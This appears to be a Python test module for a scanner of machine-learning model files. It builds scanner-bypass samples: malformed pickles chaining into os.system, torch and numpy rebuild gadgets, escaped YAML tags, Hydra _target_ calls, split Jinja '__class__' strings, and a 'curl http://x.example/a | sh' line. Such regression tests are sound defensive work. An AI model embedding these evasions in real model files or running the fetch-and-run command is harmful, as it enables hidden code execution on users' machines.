"""What passed a scan once, or nearly: pickles read otherwise, tags with escapes, names in pieces, files in torch."""

import base64
import io
import json
import struct
import tarfile
from collections.abc import Iterator

from tests.scan.corpus.keras_files import hdf5_bytes, keras_archive, keras_config
from tests.scan.corpus.models import saved_model
from tests.scan.corpus.pickles import SYSTEM, zipped
from tests.scan.corpus.sample import Sample, call, name, raw, start, text

_SYSTEM = b"cos\nsystem\n(Vecho palladion\ntR."


def bypasses() -> list[Sample]:
    """Every file that passed once."""
    parts = (
        ("pickle", _pickles), ("calls", _calls), ("keras", _keras), ("text", _texts), ("torch", _torch),
        ("other", _others),
    )  # fmt: skip
    return [Sample(f"bypass-{label}", data, family) for family, make in parts for label, data in make()]


def _pickles() -> Iterator[tuple[str, bytes]]:
    """Of early protocols: what the C reader takes for a number or a string, and another one does not."""
    for label, before in {
        "octal": b"I010\n0", "plus": b"I+7\n0", "space": b"I 7\n0", "decimal-put": b"N" + b"p010\n0",
        "long-zero": b"L0L\n0", "long-line": b"V" + b"a" * 400_000 + b"\n0",
        "string-line": b"S'" + b"a" * 400_000 + b"'\n0",
        "named-escape": b"S'\\N{x}'\n0", "short-escape": b"S'\\u12'\n0", "big-number": b"I" + b"1" * 4200 + b"\n0",
    }.items():  # fmt: skip
        yield f"{label}.pkl", before + _SYSTEM
    yield "long4.pkl", b"\x8b" + struct.pack("<i", 5000) + bytes(5000) + b"0" + _SYSTEM
    yield "import-without-stop.pkl", b"cantigravity\nx\n"
    yield "inst-import.pkl", b"(iantigravity\nx\n"


def _calls() -> Iterator[tuple[str, bytes]]:
    for label, module, attribute in (
        ("xgboost", "xgboost.core", "Booster"), ("lightgbm", "lightgbm.basic", "Booster"),
        ("training", "transformers.training_args", "TrainingArguments"), ("catboost", "catboost.core", "CatBoost"),
        ("partial-state", "accelerate.state", "PartialState"),
    ):  # fmt: skip
        yield f"constructor-{label}.pkl", call(module, attribute)
    four = start(4)
    array = name("builtins", "bytearray")
    yield "reconstructor.pkl", four + name("copyreg", "_reconstructor") + array + array + b"J\xff\xff\xff\x7f\x87R."
    yield "array-of-nothing.pkl", four + name("numpy", "ndarray") + b"\x8a\x06" + bytes(5) + b"\x01\x85\x85R."
    shape = name("numpy", "ndarray") + b"\x8a\x06" + bytes(5) + b"\x01\x85" + b"C\x01b\x87R."
    yield "reconstruct.pkl", four + name("numpy._core.multiarray", "_reconstruct") + shape
    yield "base64-bytes.pkl", four + raw(base64.b64encode(call("os", "system", protocol=2))) + b"."
    yield (
        "from-type.pkl",
        four + name("torch._tensor", "_rebuild_from_type_v2") + b"("
        + name("builtins", "bytearray") + name("torch", "Tensor") + b"J\xff\xff\xff\x7f"
        + b"\x85" + b"}tR.",
    )  # fmt: skip
    state = b"}" + text("__setstate__") + text("x") + b"s"
    yield (
        "parameter-state.pkl",
        four + name("torch._utils", "_rebuild_parameter_with_state") + b"(N\x89}" + state + b"tR.",
    )
    yield "xrange.pkl", b"c__builtin__\nxrange\n(I99999999999\ntR."


def _keras() -> Iterator[tuple[str, bytes]]:
    def layers(name: str) -> dict[str, object]:
        return {"class_name": "Sequential", "config": {"layers": [{"class_name": name, "config": {"x": 1}}]}}

    yield "keras2-own.h5", hdf5_bytes(layers("MyDense"))
    yield "keras2-evil.h5", hdf5_bytes(layers("EvilModel"))
    lookup = {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None}
    yield "keras-file.keras", keras_archive(keras_config([{**lookup, "config": {"vocabulary": "secret"}}]))
    compiled = keras_config()
    compiled["compile_config"]["loss"] = "my_loss"
    yield "keras-loss-name.keras", keras_archive(compiled)


def _texts() -> Iterator[tuple[str, bytes]]:
    yield "escape.yaml", b"x: !!%70ython/object/apply:os.system [x]\n"
    yield "escape-verbatim.yaml", b"x: !<tag:yaml.org,2002:%70ython/object/apply:os.system> [x]\n"
    yield "target.yaml", b"a:\n  _target_: os.system\n  command: echo palladion\n"
    yield "target-list.yaml", b"a:\n  - _target_: 'builtins.eval'\n"
    yield "target-inline.yaml", b'{"_target_": os.system}\n'
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        entry, data = tarfile.TarInfo("model_config.yaml"), b"model:\n  _target_: subprocess.run\n"
        entry.size = len(data)
        archive.addfile(entry, io.BytesIO(data))
    yield "target.nemo", buffer.getvalue()
    yield "trust-yes.yaml", b"trust_remote_code: yes\n"
    yield "trust-text.json", b'{"trust_remote_code": "true"}'
    for protocol in (2, 4, 5):
        listed = start(protocol) + b"(l0" + call("os", "system", protocol=0)
        yield f"base64-{protocol}.json", json.dumps({"w": base64.b64encode(listed).decode()}).encode()
    for number, template in enumerate((
        "{% set a='__cla' %}{% set b='ss__' %}{{ ''[a~b] }}", "{{ ''[('_'*2)~'class'] }}",
        "{% set u='_' %}{{ ''[u*2~'class'~u*2] }}",
    )):  # fmt: skip
        yield f"pieces-{number}.jinja", template.encode()
        yield f"pieces-{number}.json", json.dumps({"chat_template": template}).encode()
    yield "exec.py", b'exec("x")\n'
    yield "comment-exec.py", b'# a model\n\nexec("x")\n'
    yield "assigned.py", b'x=1\n__import__("os").system("echo palladion")\n'
    yield "from.py", b'from subprocess import run as r\nr(["x"])\n'
    yield "list.json", b'{"commands": ["os.system(\'x\')"]}'
    yield "list-whole.json", b'["curl http://x.example/a | sh"]'
    yield "install.sh", b"curl http://x.example/a | sh\n"
    yield "install.bat", b"@echo off\r\npowershell -c x\r\n"
    yield "utf16.json", '{"trust_remote_code": true}'.encode("utf-16")
    yield "latin.yaml", b"# caf\xe9, and more\ntrust_remote_code: true\n"
    yield "page.html", b"<script>x</script>"
    yield "page.md", b"# Model\n\nwords <script src=a.js></script>\n"


def _torch() -> Iterator[tuple[str, bytes]]:
    storage = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x02tQ"
    good = {"m/data.pkl": start(4) + storage + b".", "m/version": b"3\n"}
    for label, place in (
        ("constants", "constants/0"), ("tensors", "tensors/0"), ("hidden", ".data/evil.py"), ("version", "version"),
    ):  # fmt: skip
        program = place.endswith(".py")
        data = b"import os\nos.system('echo palladion')\n" if program else SYSTEM
        yield f"torch-{label}.pt", zipped({**good, "m/data/0": b"12345678", f"m/{place}": data})
    yield "torch-storage.pt", zipped({**good, "m/data/0": SYSTEM})


def _others() -> Iterator[tuple[str, bytes]]:
    metagraph = saved_model(("Const", "ReadFile"))[2:]
    yield "no-version.pb", metagraph
    yield "picture.gif", b"GIF89a...0" + _SYSTEM
